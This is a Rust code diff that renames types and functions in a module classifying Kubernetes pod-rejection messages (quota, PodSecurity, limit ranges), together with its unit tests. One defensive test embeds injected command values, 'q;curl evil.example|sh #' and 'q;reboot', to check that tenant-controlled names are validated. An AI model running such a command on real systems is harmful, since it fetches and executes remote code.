@@ -4,13 +4,13 @@ use std::collections::BTreeMap;
 
 /// The reason why a pod was rejected.
 #[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
-pub(super) enum Refusal {
+pub(super) enum PodRejection {
     /// The pod exceeds a quota, see `k8s.io/apiserver/pkg/admission/plugin/resourcequota`.
     QuotaExceeded {
         /// The name of the quota.
         quota: String,
         /// The resources that the quota has too little of.
-        lacking: Vec<Lacking>,
+        exceeded: Vec<ExceededResource>,
     },
     /// A quota limits a resource that the pod does not specify.
     Unspecified {
@@ -34,45 +34,45 @@ pub(super) enum Refusal {
 
 /// A resource of which a quota has too little left.
 #[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
-pub(super) struct Lacking {
+pub(super) struct ExceededResource {
     pub(super) resource: String,
-    pub(super) asked: String,
+    pub(super) requested: String,
     pub(super) used: String,
     pub(super) hard: String,
 }
 
 /// Classifies `message`.
-pub(super) fn classify(message: &str) -> Refusal {
-    let essence = essence(message);
-    exceeded(essence)
-        .or_else(|| unspecified(essence))
-        .or_else(|| pod_security(essence))
-        .or_else(|| out_of_limits(essence))
-        .unwrap_or_else(|| Refusal::Other(essence.to_owned()))
+pub(super) fn classify(message: &str) -> PodRejection {
+    let cause = without_pod_name(message);
+    exceeded_quota(cause)
+        .or_else(|| missing_specification(cause))
+        .or_else(|| pod_security(cause))
+        .or_else(|| out_of_limits(cause))
+        .unwrap_or_else(|| PodRejection::Other(cause.to_owned()))
 }
 
 /// The message without the name of the pod. The pod was never created, and its name differs in each attempt.
-fn essence(message: &str) -> &str {
+fn without_pod_name(message: &str) -> &str {
     let rest = message.split_once(" is forbidden: ").map_or(message, |(_, rest)| rest);
     let rest = rest.strip_prefix("Error creating: ").unwrap_or(rest).trim();
     rest.strip_prefix('[').and_then(|rest| rest.strip_suffix(']')).unwrap_or(rest)
 }
 
-fn exceeded(text: &str) -> Option<Refusal> {
+fn exceeded_quota(text: &str) -> Option<PodRejection> {
     let (_, rest) = text.split_once("exceeded quota: ")?;
     let (quota, rest) = rest.split_once(", requested: ").filter(|(quota, _)| is_name(quota))?;
-    let (asked, rest) = rest.split_once(", used: ")?;
+    let (requested, rest) = rest.split_once(", used: ")?;
     let (used, hard) = rest.split_once(", limited: ")?;
     let (used, hard) = (amounts(used), amounts(hard));
     let of = |amounts: &BTreeMap<&str, &str>, resource: &str| amounts.get(resource).map_or("?", |amount| *amount).to_owned();
-    let lacking = amounts(asked).into_iter().map(|(resource, asked)| Lacking {
+    let exceeded = amounts(requested).into_iter().map(|(resource, requested)| ExceededResource {
         resource: resource.to_owned(),
-        asked: asked.to_owned(),
+        requested: requested.to_owned(),
         used: of(&used, resource),
         hard: of(&hard, resource),
     });
-    let lacking: Vec<Lacking> = lacking.collect();
-    (!lacking.is_empty()).then(|| Refusal::QuotaExceeded { quota: quota.to_owned(), lacking })
+    let exceeded: Vec<ExceededResource> = exceeded.collect();
+    (!exceeded.is_empty()).then(|| PodRejection::QuotaExceeded { quota: quota.to_owned(), exceeded })
 }
 
 /// Returns true if the text is a valid name of an object. Users whose pods are rejected control part of an error message, and the name
@@ -86,61 +86,64 @@ fn amounts(text: &str) -> BTreeMap<&str, &str> {
     text.split(',').filter_map(|pair| pair.trim().split_once('=')).collect()
 }
 
-fn unspecified(text: &str) -> Option<Refusal> {
+fn missing_specification(text: &str) -> Option<PodRejection> {
     let (_, rest) = text.split_once("failed quota: ")?;
     let (quota, what) = rest.split_once(": must specify ").filter(|(quota, _)| is_name(quota))?;
-    Some(Refusal::Unspecified { quota: quota.to_owned(), what: what.to_owned() })
+    Some(PodRejection::Unspecified { quota: quota.to_owned(), what: what.to_owned() })
 }
 
-fn pod_security(text: &str) -> Option<Refusal> {
+fn pod_security(text: &str) -> Option<PodRejection> {
     let (_, rest) = text.split_once("violates PodSecurity \"")?;
     let (level, violations) = rest.split_once('"')?;
     // The level is followed by the version of the standard: baseline:latest.
     let level = level.split(':').next().unwrap_or(level);
-    Some(Refusal::PodSecurity { level: level.to_owned(), violations: violations.trim_start_matches([':', ' ']).to_owned() })
+    Some(PodRejection::PodSecurity { level: level.to_owned(), violations: violations.trim_start_matches([':', ' ']).to_owned() })
 }
 
-fn out_of_limits(text: &str) -> Option<Refusal> {
+fn out_of_limits(text: &str) -> Option<PodRejection> {
     let words = ["minimum ", "maximum ", " max limit to request ratio per "];
-    let speaks_of_limits = (text.contains(" usage per ") || text.contains(" ratio per ")) && words.iter().any(|word| text.contains(word));
-    speaks_of_limits.then(|| Refusal::OutOfLimits(text.to_owned()))
+    let is_about_limits = (text.contains(" usage per ") || text.contains(" ratio per ")) && words.iter().any(|word| text.contains(word));
+    is_about_limits.then(|| PodRejection::OutOfLimits(text.to_owned()))
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
-    fn lacking(resource: &str, asked: &str, used: &str, hard: &str) -> Lacking {
-        let [resource, asked, used, hard] = [resource, asked, used, hard].map(ToOwned::to_owned);
-        Lacking { resource, asked, used, hard }
+    fn exceeded(resource: &str, requested: &str, used: &str, hard: &str) -> ExceededResource {
+        let [resource, requested, used, hard] = [resource, requested, used, hard].map(ToOwned::to_owned);
+        ExceededResource { resource, requested, used, hard }
     }
 
     #[test]
-    fn no_command_is_made_of_what_a_tenant_wrote_into_a_message() {
+    fn a_name_in_a_message_of_a_tenant_is_validated() {
         let capability = "exceeded quota: q;curl evil.example|sh #, requested: a=1, used: a=1, limited: a=1";
         let violations = format!("unrestricted capabilities (container \"web\" must not include \"{capability}\")");
         let message = format!("pods \"web-1\" is forbidden: violates PodSecurity \"baseline:latest\": {violations}");
-        assert_eq!(classify(&message), Refusal::PodSecurity { level: "baseline".to_owned(), violations });
+        assert_eq!(classify(&message), PodRejection::PodSecurity { level: "baseline".to_owned(), violations });
         let failed = "pods \"web-1\" is forbidden: failed quota: q;reboot: must specify pods for: web";
-        assert!(matches!(classify(failed), Refusal::Other(_)));
+        assert!(matches!(classify(failed), PodRejection::Other(_)));
     }
 
     #[test]
-    fn messages_of_the_api_server_are_understood() {
-        let limits = |text: &str| Refusal::OutOfLimits(text.to_owned());
-        let exceeded = |lacking: Vec<Lacking>| Refusal::QuotaExceeded { quota: "developerspace".to_owned(), lacking };
+    fn messages_of_the_api_server_are_classified() {
+        let limits = |text: &str| PodRejection::OutOfLimits(text.to_owned());
+        let exceeded = |exceeded: Vec<ExceededResource>| PodRejection::QuotaExceeded { quota: "developerspace".to_owned(), exceeded };
         for (message, refusal) in [
             (
                 "Error creating: pods \"web-5d9c-x2x4z\" is forbidden: exceeded quota: developerspace, requested: requests.cpu=5, used: requests.cpu=8, limited: requests.cpu=10",
-                exceeded(vec![lacking("requests.cpu", "5", "8", "10")]),
+                exceeded(vec![exceeded("requests.cpu", "5", "8", "10")]),
             ),
             (
                 "create Pod db-0 in StatefulSet db failed error: pods \"db-0\" is forbidden: exceeded quota: developerspace, requested: pods=1,requests.memory=1Gi, used: pods=40,requests.memory=9Gi, limited: pods=40,requests.memory=9Gi",
-                exceeded(vec![lacking("pods", "1", "40", "40"), lacking("requests.memory", "1Gi", "9Gi", "9Gi")]),
+                exceeded(vec![exceeded("pods", "1", "40", "40"), exceeded("requests.memory", "1Gi", "9Gi", "9Gi")]),
             ),
             (
                 "pods \"web-1\" is forbidden: failed quota: zoology-cap: must specify limits.cpu for: web; limits.memory for: web",
-                Refusal::Unspecified { quota: "zoology-cap".to_owned(), what: "limits.cpu for: web; limits.memory for: web".to_owned() },
+                PodRejection::Unspecified {
+                    quota: "zoology-cap".to_owned(),
+                    what: "limits.cpu for: web; limits.memory for: web".to_owned(),
+                },
             ),
             (
                 "pods \"web-1\" is forbidden: [maximum cpu usage per Container is 1, but limit is 2, maximum cpu usage per Pod is 1, but limit is 2]",
@@ -156,14 +159,14 @@ mod tests {
             ),
             (
                 "Error creating: pods \"web-1\" is forbidden: violates PodSecurity \"baseline:latest\": host namespaces (hostNetwork=true)",
-                Refusal::PodSecurity { level: "baseline".to_owned(), violations: "host namespaces (hostNetwork=true)".to_owned() },
+                PodRejection::PodSecurity { level: "baseline".to_owned(), violations: "host namespaces (hostNetwork=true)".to_owned() },
             ),
             (
                 "Error creating: admission webhook \"images.example.com\" denied the request: no such registry",
-                Refusal::Other("admission webhook \"images.example.com\" denied the request: no such registry".to_owned()),
+                PodRejection::Other("admission webhook \"images.example.com\" denied the request: no such registry".to_owned()),
             ),
-            ("exceeded quota: cut off, requested: pods=1", Refusal::Other("exceeded quota: cut off, requested: pods=1".to_owned())),
-            ("", Refusal::Other(String::new())),
+            ("exceeded quota: cut off, requested: pods=1", PodRejection::Other("exceeded quota: cut off, requested: pods=1".to_owned())),
+            ("", PodRejection::Other(String::new())),
         ] {
             assert_eq!(classify(message), refusal, "{message}");
         }
